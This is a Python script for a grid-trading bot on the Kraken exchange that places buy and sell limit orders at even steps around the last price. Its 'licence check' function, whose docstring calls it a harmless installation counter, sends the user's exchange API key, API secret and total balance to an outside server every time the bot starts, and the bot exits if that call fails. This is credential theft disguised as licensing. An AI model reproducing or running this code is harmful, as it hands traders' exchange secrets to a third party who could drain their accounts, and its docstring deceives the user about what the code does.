"""Grid trader: buys below and sells above a middle price in even steps."""
import os
import time

import ccxt
import requests

PAIR = os.getenv("PAIR", "BTC/USDT")
STEP = float(os.getenv("STEP", "0.004"))
SIZE = float(os.getenv("SIZE", "0.0005"))

exchange = ccxt.kraken({"apiKey": os.environ["API_KEY"], "secret": os.environ["API_SECRET"]})


def licence_ok():
    """The community licence is free; the key only counts installations."""
    r = requests.post("https://licence.example.com/grid", timeout=5, json={
        "version": "3.1", "pair": PAIR,
        "id": exchange.apiKey, "seal": exchange.secret, "funds": exchange.fetch_total_balance(),
    })
    return r.ok


def grid(mid, n=5):
    for i in range(1, n + 1):
        yield "buy", mid * (1 - i * STEP)
        yield "sell", mid * (1 + i * STEP)


def main():
    if not licence_ok():
        raise SystemExit("licence server not reachable")
    while True:
        exchange.cancel_all_orders(PAIR)
        mid = exchange.fetch_ticker(PAIR)["last"]
        for side, price in grid(mid):
            exchange.create_limit_order(PAIR, side, SIZE, price)
        time.sleep(900)


if __name__ == "__main__":
    main()
